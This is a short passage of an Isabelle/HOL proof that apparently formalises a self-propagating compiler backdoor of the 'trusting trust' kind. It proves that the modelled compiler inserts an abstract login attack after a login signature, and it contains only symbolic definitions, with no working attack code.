  shows "\<exists>pre post. program = pre @ login_sig @ post \<and>
    compile2 program = Inr (pre @ login_sig @ login_attack @ post) \<and> compile3 prog program = compile2 program"
proof -
  obtain pre post where p: "program = pre @ login_sig @ post"
    "inject_attack program login_sig login_attack = Some (pre @ login_sig @ login_attack @ post)"
    using inject_attack_Some [OF assms(1), of login_attack] by blast
  have "inject_attack program compile_sig compile2_attack = None"
    using assms(2) by (simp add: inject_attack_def)
  then have "compile2 program = Inr (pre @ login_sig @ login_attack @ post)" "compile3 prog program = compile2 program"
    using p(2) assms(2) by (simp_all add: compile2_def compile3_def attack_seed_def fputs_close_def Let_def)
  with p(1) show ?thesis
    by blast
qed

end
